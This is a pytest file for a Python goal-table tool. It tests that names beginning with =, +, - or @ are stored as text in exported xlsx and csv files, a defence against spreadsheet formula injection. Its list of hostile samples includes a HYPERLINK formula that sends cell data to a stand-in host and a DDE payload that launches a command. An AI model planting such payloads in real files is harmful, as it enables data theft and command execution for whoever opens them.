"""Spreadsheet formula injection (issue 11, item 9): a name starting with ``=``, ``+``, ``-`` or
``@`` is data in every xlsx and csv the project writes, and jixiao reads its own csv back
unchanged."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jixiao.core.model import GoalTable
from jixiao.io.actuals import write_template
from jixiao.io.formula_cells import could_run, csv_cell, unquote_csv_cell
from jixiao.io.writers import get_exporter
from jixiao.services.parsing import parse_file

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "dongguan-changan-2024-goal-tables.txt"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
]


def hostile_table(name: str) -> GoalTable:
    table = parse_file(EXAMPLE).tables[2]
    first = replace(table.indicators[0], name=name)
    header = replace(table.header, name=name)
    return replace(table, header=header, indicators=(first, *table.indicators[1:]))


def test_what_could_run() -> None:
    assert all(could_run(h) for h in HOSTILE)
    for plain in ("-5", "+3.5", "-3%", "≥90%", "工会经费", "", "100%"):
        assert not could_run(plain), plain
    assert csv_cell("=1+1") == "'=1+1" and unquote_csv_cell("'=1+1") == "=1+1"
    assert unquote_csv_cell("'ordinary") == "'ordinary"


@pytest.mark.parametrize("name", HOSTILE)
def test_xlsx_stores_it_as_text(name: str, tmp_path: Path) -> None:
    data = get_exporter("xlsx")([hostile_table(name)]).render()
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == name]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_writes_it_quoted_and_reads_it_back(name: str, tmp_path: Path) -> None:
    data = get_exporter("csv")([hostile_table(name)]).render()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    path = tmp_path / "t.csv"
    path.write_bytes(data)
    (table,) = parse_file(path).tables
    assert table.header.name == name and table.indicators[0].name == name


def test_the_actuals_template_stores_it_as_text() -> None:
    data = write_template([hostile_table(HOSTILE[0])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert cells and all(c.data_type == "s" for c in cells)
